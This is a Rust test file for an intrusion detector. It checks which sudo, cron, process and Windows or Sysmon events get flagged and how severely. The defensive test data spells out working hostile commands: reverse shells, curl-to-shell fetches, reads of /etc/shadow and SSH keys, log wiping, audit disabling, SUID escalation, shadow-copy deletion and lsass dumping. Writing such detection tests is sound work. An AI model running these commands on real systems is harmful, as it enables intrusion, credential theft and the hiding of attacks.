//! Commands that few ordinary people run, and the ordinary ones that look like them.

use nms_proto::event::{Body, ProcessStart};

use crate::host::{Hub, check, line};

/// A process start, in the fields of the wire.
fn process(exe: &str, cmdline: &str, parent: &str, user: &str) -> Body {
    let start =
        ProcessStart { pid: 7, exe: exe.into(), cmdline: cmdline.into(), parent: parent.into(), user: user.into() };
    Body::Process(Box::new(start))
}

fn sudo(user: &str, command: &str) -> Body {
    line("sudo", 9, &format!("{user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND={command}"))
}

fn cron(user: &str, command: &str) -> Body {
    line("CRON", 9, &format!("({user}) CMD ({command})"))
}

/// The worst that is said of one event, `SEVERITY category: message`; nothing where nothing is.
fn said_at(after_s: f64, body: Body) -> String {
    let mut hub = Hub::new();
    hub.feed(after_s, "web", body);
    let worst = hub.said.iter().max_by_key(|finding| finding.floor);
    worst.map_or(String::new(), |finding| format!("{} {}: {}", finding.floor, finding.category, finding.message))
}

fn said(body: Body) -> String {
    said_at(3_600.0, body)
}

/// Severity and category of each row, by sudo of alice.
fn check_sudo(rows: &[(&str, &str)]) {
    for (command, expected) in rows {
        let text = said(sudo("alice", command));
        let short = text.split_once(':').map_or("", |(head, _message)| head);
        assert_eq!(short, *expected, "{command}: {text}");
    }
}

#[test]
fn shells_for_somebody_far_away() {
    for command in [
        "/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "/usr/bin/nc -e /bin/sh 203.0.113.9 4444",
        "/usr/bin/ncat 203.0.113.9 4444 -e /bin/bash",
        "/usr/bin/ncat --exec /bin/bash 203.0.113.9 4444",
        "/usr/bin/nc -lvpe 4444 /bin/sh",
        "/usr/bin/socat tcp-connect:203.0.113.9:4444 exec:/bin/sh,pty,stderr",
        "/usr/bin/socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty",
        "/usr/bin/python3 -c import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])",
        "/usr/bin/perl -e use Socket;$i=\"203.0.113.9\";socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\");",
        "/usr/bin/php -r $s=fsockopen(\"203.0.113.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
        "/bin/sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        "/bin/sh -c nc 203.0.113.9 4444 | sh",
    ] {
        let text = said(sudo("alice", command));
        assert!(text.starts_with("CRITICAL suspicious_process: alice gives a shell to"), "{command}: {text}");
    }
    let by_service =
        process("/bin/bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", "/usr/sbin/nginx", "www-data");
    assert!(said(by_service).starts_with("CRITICAL suspicious_process"));
    let record = "type=EXECVE msg=audit(1773137472.123:7): argc=3 a0=\"bash\" a1=\"-c\" a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E392F3434343420303E2631";
    assert!(
        said(line("audispd", 0, record)).starts_with("CRITICAL suspicious_process"),
        "{}",
        said(line("audispd", 0, record))
    );
}

#[test]
fn fetched_and_run() {
    check_sudo(&[
        ("/bin/sh -c curl -s http://203.0.113.9/x.sh | sh", "HIGH suspicious_process"),
        ("/bin/bash -c wget -qO- https://203.0.113.9/x | sudo bash -s -- -q", "HIGH suspicious_process"),
        ("/bin/sh -c curl http://x.example/a.py | python3", "HIGH suspicious_process"),
        ("/bin/bash -c bash <(curl -s http://x.example/a)", "HIGH suspicious_process"),
        ("/bin/bash -c $(curl -fsSL http://x.example/a)", "HIGH suspicious_process"),
        ("/bin/bash -c \"$(curl -fsSL http://x.example/a)\"", "HIGH suspicious_process"),
        ("/bin/bash -c eval \"$(wget -qO- http://x.example/a)\"", "HIGH suspicious_process"),
        ("/bin/bash -c (curl -s http://x.example/a) | sh", "HIGH suspicious_process"),
        ("/bin/sh -c curl -s https://x.example/i.sh | sh", "MEDIUM suspicious_process"),
        ("/bin/sh -c curl -fsSL https://get.docker.com | sh", "LOW suspicious_process"),
        ("/bin/sh -c wget http://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "HIGH suspicious_process"),
        ("/bin/sh -c cd /tmp && curl -O https://x.example/i.sh && bash /tmp/i.sh", "MEDIUM suspicious_process"),
        ("/bin/sh -c echo aWQK | base64 -d | sh", "HIGH suspicious_process"),
        ("/bin/sh -c base64 --decode /tmp/x | tee /tmp/y | bash", "HIGH suspicious_process"),
    ]);
    // Fetched, shown, looked through, spoken of.
    check_sudo(&[
        ("/usr/bin/curl -s http://x.example/x.sh", ""),
        ("/usr/bin/curl -o /tmp/x.sh http://x.example/x.sh", ""),
        ("/bin/sh -c curl -s https://x.example/a.json | python3 -m json.tool", ""),
        ("/bin/sh -c curl -s https://x.example/a.json | jq .name", ""),
        ("/bin/sh -c curl -s http://x.example/a.tgz | tar xz", ""),
        ("/bin/sh -c echo 'curl http://x.example | sh' >> notes", ""),
        ("/bin/grep curl http://x | sh notes", ""),
        ("/usr/bin/git commit -m never curl http://x.example | sh again", ""),
        ("/bin/sh -c echo aWQK | base64 -d", ""),
        ("/bin/sh -c echo `date` `curl -s http://x.example/ip`", ""),
        ("/bin/sh -c ip=$(curl -s http://x.example/ip); sh /usr/local/bin/ddns.sh $ip", ""),
        ("/bin/sh -c [ -n \"$(curl -s http://x.example/ip)\" ] && sh /usr/local/bin/up.sh", ""),
        ("/bin/sh -c curl -s http://x.example/health || sh /usr/local/bin/restart.sh", ""),
        ("/usr/bin/apt-get install curl bash", ""),
        ("/bin/bash -c echo > /dev/tcp/db/5432", ""),
        ("/bin/bash -c timeout 1 bash -c '</dev/tcp/db/5432' && echo up", ""),
        ("/usr/bin/nc -zv 10.0.0.5 22", ""),
        ("/usr/bin/nc -l 4444", ""),
        ("/usr/bin/socat TCP-LISTEN:80,fork TCP:10.0.0.5:80", ""),
        ("/usr/bin/python3 -c import socket; print(socket.gethostname())", ""),
        ("/usr/bin/perl -e print \"socket\"", ""),
    ]);
}

#[test]
fn miners_secrets_and_defences() {
    check_sudo(&[
        ("/usr/local/bin/xmrig -o pool.example:3333", "HIGH malware"),
        ("/opt/x/daemon -a rx -o stratum+tcp://pool.example:3333 -u x", "HIGH malware"),
        ("/tmp/kdevtmpfsi", "HIGH malware"),
        ("/bin/grep -r stratum+tcp:// /var/log", ""),
        ("/usr/bin/cat /etc/shadow", "MEDIUM suspicious_process"),
        ("/bin/cp /etc/shadow /tmp/s", "MEDIUM suspicious_process"),
        ("/usr/bin/cat /root/.ssh/id_rsa", "MEDIUM suspicious_process"),
        ("/usr/bin/cat /etc/passwd", ""),
        ("/bin/cp -p /etc/shadow /var/backups/shadow.bak", ""),
        ("/usr/bin/ls -l /etc/shadow", ""),
        ("/bin/chown root:shadow /etc/shadow", ""),
        ("/usr/sbin/setenforce 0", "MEDIUM suspicious_process"),
        ("/usr/sbin/setenforce 1", ""),
        ("/usr/sbin/ufw disable", "MEDIUM suspicious_process"),
        ("/usr/sbin/ufw allow 22", ""),
        ("/sbin/iptables -F", "MEDIUM suspicious_process"),
        ("/sbin/iptables -F DOCKER-USER", ""),
        ("/sbin/iptables -A INPUT -j DROP", ""),
        ("/usr/sbin/nft flush ruleset", "MEDIUM suspicious_process"),
        ("/usr/sbin/nft list ruleset", ""),
        ("/usr/bin/systemctl stop firewalld", "MEDIUM suspicious_process"),
        ("/usr/bin/systemctl disable --now nmsd-agent.service", "MEDIUM log_tampering"),
        ("/usr/bin/systemctl stop rsyslog", "MEDIUM log_tampering"),
        ("/usr/sbin/service auditd stop", "MEDIUM log_tampering"),
        ("/usr/sbin/auditctl -e 0", "MEDIUM log_tampering"),
        ("/sbin/auditctl -D", "LOW log_tampering"),
        ("/sbin/auditctl -l", ""),
        ("/usr/bin/pkill -9 rsyslogd", "MEDIUM log_tampering"),
        ("/usr/bin/systemctl restart rsyslog", ""),
        ("/usr/bin/systemctl stop nginx", ""),
        ("/usr/bin/systemctl status auditd", ""),
        ("/bin/chmod u+s /bin/bash", "HIGH privilege_escalation"),
        ("/bin/chmod 4755 /tmp/rootbash", "HIGH privilege_escalation"),
        ("/bin/chmod 755 /tmp/x", ""),
        ("/bin/chmod 4755 /usr/bin/ping", ""),
        ("/usr/bin/tee -a /etc/passwd", "MEDIUM persistence"),
        ("/usr/bin/tee /etc/nginx/conf.d/x.conf", ""),
        ("/usr/bin/python3 -c import pty;pty.spawn(\"/bin/bash\")", "MEDIUM suspicious_process"),
    ]);
    let night = said_at(15.0 * 3_600.0, sudo("alice", "/usr/bin/systemctl stop auditd"));
    assert!(night.starts_with("HIGH log_tampering: alice stops auditd, which watches"), "{night}");
}

#[test]
fn logs_that_are_removed_by_hand() {
    check_sudo(&[
        ("/usr/bin/rm -f /var/log/auth.log", "HIGH log_tampering"),
        ("/usr/bin/shred -u /var/log/wtmp", "HIGH log_tampering"),
        ("/usr/bin/truncate -s 0 /var/log/secure", "HIGH log_tampering"),
        ("/bin/rm -rf /var/log", "HIGH log_tampering"),
        ("/bin/sh -c rm -rf /var/log/*", "HIGH log_tampering"),
        ("/bin/sh -c cat /dev/null > /var/log/auth.log", "HIGH log_tampering"),
        ("/bin/sh -c > /var/log/wtmp", "HIGH log_tampering"),
        ("/bin/cp /dev/null /var/log/lastlog", "HIGH log_tampering"),
        ("/bin/ln -sf /dev/null /var/log/auth.log", "HIGH log_tampering"),
        ("/usr/bin/find /var/log -type f -delete", "HIGH log_tampering"),
        ("/usr/bin/truncate -s 0 /var/log/syslog", "MEDIUM log_tampering"),
        ("/bin/bash -c history -c", "MEDIUM log_tampering"),
        ("/bin/bash -c unset HISTFILE; id", "MEDIUM log_tampering"),
        ("/bin/rm /root/.bash_history", "MEDIUM log_tampering"),
        ("/bin/ln -sf /dev/null /root/.bash_history", "MEDIUM log_tampering"),
        ("/usr/bin/journalctl --vacuum-time=2d", "LOW log_tampering"),
        ("/usr/bin/rm /var/log/auth.log.1", "LOW log_tampering"),
        ("/usr/bin/rm /var/log/syslog.2.gz", "LOW log_tampering"),
        ("/usr/bin/truncate -s 0 /var/log/app/debug.log", "LOW log_tampering"),
        ("/usr/bin/find /var/log -name *.gz -mtime +30 -delete", "LOW log_tampering"),
        ("/usr/bin/tail -f /var/log/auth.log", ""),
        ("/usr/bin/grep root /var/log/auth.log", ""),
        ("/bin/sh -c echo note >> /var/log/syslog", ""),
        ("/usr/bin/cp /var/log/auth.log /root/", ""),
        ("/usr/sbin/logrotate -f /etc/logrotate.conf", ""),
        ("/bin/rm -rf /var/log2/x", ""),
        ("/usr/bin/journalctl -u nginx", ""),
    ]);
}

#[test]
fn cron_keeps_what_it_runs() {
    for (command, expected) in [
        ("/tmp/.x/update >/dev/null 2>&1", "HIGH persistence"),
        ("/dev/shm/kworker", "HIGH persistence"),
        ("curl -fsSL http://203.0.113.9/i.sh | sh", "HIGH persistence"),
        ("   wget -q -O - http://x.example/a | bash > /dev/null 2>&1", "HIGH persistence"),
        ("sh /var/tmp/run.sh", "HIGH persistence"),
        ("cp -p /etc/passwd /etc/shadow /etc/group /srv/backup/", "LOW suspicious_process"),
        ("cp -p /etc/shadow /srv/backup/", "MEDIUM suspicious_process"),
        ("echo Y3VybAo= | base64 -d | bash", "HIGH persistence"),
        ("cd /tmp && /usr/local/bin/backup.sh > /tmp/backup.log 2>&1", ""),
        ("find /tmp -mtime +7 -delete", ""),
        ("/usr/bin/flock -n /tmp/job.lock /usr/local/bin/job.sh", ""),
        ("/usr/bin/flock -n /tmp/job.lock /tmp/job.sh", "HIGH persistence"),
        ("curl -fsS https://hc.example/ping > /dev/null || logger failed", ""),
        ("command -v debian-sa1 > /dev/null && debian-sa1 1 1", ""),
        ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", ""),
        ("[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi", ""),
        ("root    cd / && run-parts --report /etc/cron.hourly", ""),
    ] {
        let text = said(cron("root", command));
        let short = text.split_once(':').map_or("", |(head, _message)| head);
        assert_eq!(short, expected, "{command}: {text}");
    }
}

#[test]
fn shells_of_network_services() {
    for (parent, cmdline, expected) in [
        ("/usr/sbin/nginx", "sh -c id", "HIGH"),
        ("/usr/sbin/nginx", "", "HIGH"),
        ("/usr/bin/redis-server", "/bin/sh -c anything", "HIGH"),
        ("/usr/sbin/apache2", "bash -i", "HIGH"),
        ("/usr/sbin/apache2", "sh -c whoami", "HIGH"),
        ("/usr/sbin/php-fpm8.2", "sh -c 'cat /etc/passwd'", "HIGH"),
        ("/usr/lib/jvm/java-17/bin/java", "/bin/bash -c wget http://203.0.113.9/x", "HIGH"),
        ("/usr/lib/postgresql/16/bin/postgres", "sh -c id", "HIGH"),
        ("/usr/sbin/php-fpm8.2", "sh -c ps aux", "MEDIUM"),
        ("/usr/sbin/php-fpm8.2", "sh -c cat /proc/cpuinfo", "MEDIUM"),
        ("/usr/sbin/php-fpm8.2", "sh -c /opt/site/resize.sh a.png", "LOW"),
        ("/usr/sbin/php-fpm8.2", "sh -c /usr/sbin/sendmail -t -i", ""),
        ("/usr/sbin/apache2", "/bin/sh -c /usr/bin/rotatelogs /var/log/a 86400", ""),
        ("/usr/lib/postgresql/16/bin/postgres", "sh -c test ! -f /mnt/a && cp pg_wal/a /mnt/a", ""),
        ("/usr/sbin/dnsmasq", "/bin/sh /usr/local/sbin/lease.sh add 52:54:00:00:00:01 10.0.0.5", ""),
        ("/usr/sbin/dnsmasq", "sh -c id", "HIGH"),
        ("/usr/sbin/mariadbd", "sh -c wsrep_sst_rsync --role donor", "LOW"),
        ("/usr/sbin/smbd", "sh -c lpr -P laser /var/spool/samba/x", "LOW"),
        ("/usr/sbin/mysqld", "bash -i", "HIGH"),
        ("/usr/lib/jvm/java-17/bin/java", "bash -c id -gn alice; id -Gn alice", "LOW"),
        ("/usr/lib/jvm/java-17/bin/java", "bash -c id; curl http://203.0.113.9/x", "HIGH"),
        ("/usr/sbin/cron", "/bin/sh -c id", ""),
        ("/usr/lib/systemd/systemd", "/bin/sh -c id", ""),
        ("/usr/sbin/sshd", "-bash", ""),
        ("/bin/bash", "bash", ""),
    ] {
        let text = said(process("/bin/sh", cmdline, parent, "www-data"));
        let short = text.split_once(' ').map_or("", |(head, _message)| head);
        assert_eq!(short, expected, "{parent} {cmdline}: {text}");
    }
    check(
        &said(process("/bin/sh", "sh -c id", "/usr/sbin/nginx", "www-data")),
        "HIGH suspicious_process: the service nginx started a shell on web",
    );
}

#[test]
fn programs_in_folders_for_temporary_files() {
    for (exe, parent, user, expected) in [
        ("/tmp/x", "/bin/bash", "bob", "MEDIUM"),
        ("/var/tmp/x", "/usr/bin/dash", "root", "MEDIUM"),
        ("/dev/shm/x", "/bin/bash", "bob", "HIGH"),
        ("/tmp/.ICE-unix/x", "/bin/bash", "bob", "HIGH"),
        ("/tmp/x", "/bin/sh", "www-data", "HIGH"),
        ("/tmp/x", "/usr/sbin/nginx", "", "HIGH"),
        ("/tmp/build/test", "/usr/bin/make", "dev", "LOW"),
        ("/tmp/apt.conf.x", "/usr/bin/dpkg", "root", ""),
        ("/var/tmp/mkinitramfs_x/bin/y", "/bin/sh", "root", ""),
        ("/tmp/.ansible/tmp/ansible-tmp-1-1-1/AnsiballZ_apt.py", "/bin/sh", "root", ""),
        ("/var/tmp/ansible-tmp-1-1-1/x", "/bin/sh", "root", ""),
        ("/tmp/go-build12/b001/x.test", "/usr/bin/go", "dev", ""),
        ("/tmp/.mount_app/AppRun", "/bin/bash", "dev", ""),
        ("/usr/bin/ls", "/bin/bash", "bob", ""),
    ] {
        let text = said(process(exe, exe, parent, user));
        let short = text.split_once(' ').map_or("", |(head, _message)| head);
        assert_eq!(short, expected, "{exe} {parent} {user}: {text}");
    }
    check_sudo(&[("/tmp/install.sh", "LOW suspicious_process"), ("/dev/shm/install", "MEDIUM suspicious_process")]);
    let by_service = said(sudo("www-data", "/dev/shm/install"));
    assert!(by_service.starts_with("HIGH suspicious_process"), "{by_service}");
    let record = "type=SYSCALL msg=audit(1773137472.1:7): arch=c000003e syscall=59 success=yes exit=0 ppid=7 pid=8 auid=1000 uid=33 comm=\"x\" exe=\"/tmp/x\" key=\"exec\"";
    assert!(
        said(line("audispd", 0, record)).starts_with("MEDIUM suspicious_process"),
        "{}",
        said(line("audispd", 0, record))
    );
    assert_eq!(said(line("audispd", 0, &record.replace("/tmp/x", "/usr/bin/x"))), "");
}

#[test]
fn windows_processes() {
    let start = |command: &str, program: &str, parent: &str| {
        let escaped = |text: &str| text.replace('\\', "\\\\");
        format!(
            r#"{{"EventID":4688,"Channel":"Security","SubjectUserName":"bob","NewProcessName":"{}","CommandLine":"{}","ParentProcessName":"{}"}}"#,
            escaped(program),
            escaped(command),
            escaped(parent)
        )
    };
    for (command, program, parent, expected) in [
        (
            "vssadmin.exe Delete Shadows /all /quiet",
            r"C:\Windows\System32\vssadmin.exe",
            r"C:\x\a.exe",
            "HIGH ransomware",
        ),
        (
            "procdump -ma lsass.exe l.dmp",
            r"C:\t\procdump.exe",
            r"C:\Windows\System32\cmd.exe",
            "HIGH suspicious_process",
        ),
        ("wevtutil cl Security", r"C:\Windows\System32\wevtutil.exe", "", "HIGH log_tampering"),
        (
            "cmd.exe /c whoami",
            r"C:\Windows\System32\cmd.exe",
            r"C:\Windows\System32\inetsrv\w3wp.exe",
            "HIGH suspicious_process",
        ),
        ("powershell.exe -nop -w hidden -enc SQBFAFgA", r"C:\w\powershell.exe", "", "HIGH suspicious_process"),
        ("net user x P /add", r"C:\w\net.exe", "", "MEDIUM persistence"),
        ("net localgroup administrators x /add", r"C:\w\net.exe", "", "MEDIUM privilege_escalation"),
        ("wevtutil clear-log Security", r"C:\w\wevtutil.exe", "", "HIGH log_tampering"),
        ("auditpol /clear /y", r"C:\w\auditpol.exe", "", "HIGH log_tampering"),
        ("wbadmin delete systemstatebackup", r"C:\w\wbadmin.exe", "", "HIGH ransomware"),
        ("Get-WmiObject Win32_Shadowcopy | % {$_.Delete()}", r"C:\w\powershell.exe", "", "HIGH ransomware"),
        ("mshta http://203.0.113.9/x.hta", r"C:\w\mshta.exe", "", "HIGH suspicious_process"),
        ("regsvr32 /s /u /i:http://203.0.113.9/x.sct scrobj.dll", r"C:\w\regsvr32.exe", "", "HIGH suspicious_process"),
        ("powershell.exe -EncodedCommand SQBFAFgA", r"C:\w\powershell.exe", "", ""),
        ("net user x", r"C:\w\net.exe", "", ""),
        ("vssadmin list shadows", r"C:\Windows\System32\vssadmin.exe", "", ""),
        ("findstr mimikatz log.txt", r"C:\Windows\System32\findstr.exe", "", ""),
        ("cmd.exe /c dir", r"C:\Windows\System32\cmd.exe", r"C:\Windows\explorer.exe", ""),
    ] {
        let text = said(line("", 0, &start(command, program, parent)));
        let short = text.split_once(':').map_or("", |(head, _message)| head);
        assert_eq!(short, expected, "{command}: {text}");
    }
}

/// What manages packet filters flushes them; a thread of the kernel has no file in /tmp.
#[test]
fn who_started_it_matters() {
    assert_eq!(said(process("/usr/sbin/iptables", "iptables -F", "/usr/bin/dockerd", "root")), "");
    assert!(
        said(process("/usr/sbin/iptables", "iptables -F", "/bin/bash", "root"))
            .starts_with("MEDIUM suspicious_process")
    );
    assert!(said(process("/tmp/x", "[kworker/0:1]", "/bin/bash", "root")).starts_with("HIGH suspicious_process"));
    let mut hub = Hub::new();
    hub.feed(0.0, "web", line("dpkg", 0, "status half-configured rsyslog:amd64 8.2112.0"));
    hub.feed(1.0, "web", sudo("alice", "/usr/bin/systemctl stop rsyslog"));
    check(&hub.text(), "1 LOW log_tampering x1 open: alice stops rsyslog, which watches on web");
}

/// Ten thousand times the same, and texts that want to take long.
#[test]
fn many_and_long_ones_stay_small() {
    let mut hub = Hub::new();
    for at in 0..10_000 {
        hub.feed(f64::from(at) * 0.1, "web", process("/tmp/x", "/tmp/x", "/bin/bash", "bob"));
    }
    assert_eq!(hub.alerts(), 1);
    assert!(hub.said.len() <= 6, "{}", hub.text());
    for text in
        ["$(".repeat(20_000), "`".repeat(40_000), "sh -c '".repeat(5_000), "(\"".repeat(20_000), "é|".repeat(9_000)]
    {
        let mut hub = Hub::new();
        hub.feed(0.0, "web", cron("root", &text));
        hub.feed(1.0, "web", sudo("alice", &text));
    }
}

/// Sysmon tells of the same in XML; its numbers are others than Windows' own.
#[test]
fn sysmon_s_process_starts() {
    let start = |id: u32, command: &str| {
        format!(
            "<Event xmlns='x'><System><Provider Name='Microsoft-Windows-Sysmon'/><EventID>{id}</EventID></System><EventData>\
             <Data Name='Image'>C:\\t\\a.exe</Data><Data Name='CommandLine'>{command}</Data><Data Name='User'>X\\bob</Data>\
             <Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data></EventData></Event>"
        )
    };
    let dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full";
    assert!(
        said(line("", 0, &start(1, dump))).starts_with("HIGH suspicious_process"),
        "{}",
        said(line("", 0, &start(1, dump)))
    );
    assert_eq!(said(line("", 0, &start(5, dump))), "");
    assert_eq!(said(line("", 0, &start(1, "notepad.exe notes.txt"))), "");
}

/// What an application quotes of a request is no record of the audit log and no event of Windows.
#[test]
fn what_an_application_quotes_was_run_by_nobody() {
    for text in [
        r#"{"request":{"uri":"/?audit(","headers":{"User-Agent":["type=EXECVE a0=nc a1=-e a2=/bin/sh x"]}}}"#,
        r#"GET /?audit( "type=EXECVE a0=nc a1=-e a2=/bin/sh x""#,
        r#"{"ua":"type=SYSCALL audit( success=yes exe=\"/tmp/x\" "}"#,
        r#"{"ip":"203.0.113.9","ua":"Microsoft-Windows-Security-Auditing EventID=1102 x"}"#,
        r#"{"ua":"Microsoft-Windows-Security-Auditing EventID=4688 CommandLine=mimikatz "}"#,
        r#"{"ua":"Microsoft-Windows-Security-Auditing EventID=4732 TargetUserName=Administrators "}"#,
        r#"{"ua":"\"EventID\":1102,\"Channel\":\"Security\"","Channel":"x"}"#,
        r#"GET / "x {"EventID":1102,"Channel":"Security"}""#,
        "Login of Microsoft-Windows-Security-Auditing <EventID>1102</EventID> failed",
    ] {
        for app in ["caddy", "traefik", "", "gunicorn"] {
            assert_eq!(said_at(15.0 * 3_600.0, line(app, 0, text)), "", "{app} {text}");
        }
    }
    let record = "type=EXECVE msg=audit(1773137472.123:7): argc=3 a0=\"nc\" a1=\"-e\" a2=\"/bin/sh\"";
    for text in [record.into(), format!("node=web {record}"), format!("audit: {record}")] {
        let text = said(line("audispd", 0, &text));
        assert!(text.starts_with("CRITICAL suspicious_process"), "{text}");
    }
}

/// Images are built without logs; what was removed in an ordinary shell counts.
#[test]
fn an_image_that_is_built() {
    let script = "/bin/sh -c apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/* /var/log/*";
    for (parent, expected) in
        [("/usr/bin/runc", "LOW"), ("/usr/bin/containerd-shim-runc-v2", "LOW"), ("/usr/bin/bash", "HIGH")]
    {
        let text = said(process("/bin/dash", script, parent, "root"));
        assert!(text.starts_with(&format!("{expected} log_tampering")), "{parent}: {text}");
    }
    let ansible = process(
        "/usr/bin/python3",
        "/usr/bin/python3 /tmp/.ansible/tmp/ansible-tmp-1-1-1/AnsiballZ_apt.py",
        "/bin/sh",
        "root",
    );
    assert_eq!(said(ansible), "");
}

/// A folder that is called like a command hides none.
#[test]
fn folders_called_like_fields_of_sudo() {
    for (text, expected) in [
        (
            "PWD=/tmp/x ; USER=nobody ; COMMAND=ls ; USER=root ; COMMAND=/bin/rm -f /var/log/auth.log",
            "HIGH log_tampering",
        ),
        ("PWD=/tmp/COMMAND=ls ; USER=root ; COMMAND=/bin/rm -f /var/log/auth.log", "HIGH log_tampering"),
        (
            "PWD=/tmp/x ; COMMAND=ls ; COMMAND=id ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 1",
            "CRITICAL suspicious_process",
        ),
        ("PWD=/tmp/x ; USER=nobody ; COMMAND=ls ; USER=root ; COMMAND=/bin/ls", ""),
    ] {
        let text = said(line("sudo", 9, &format!("bob : TTY=pts/0 ; {text}")));
        let short = text.split_once(':').map_or("", |(head, _message)| head);
        assert_eq!(short, expected, "{text}");
    }
}
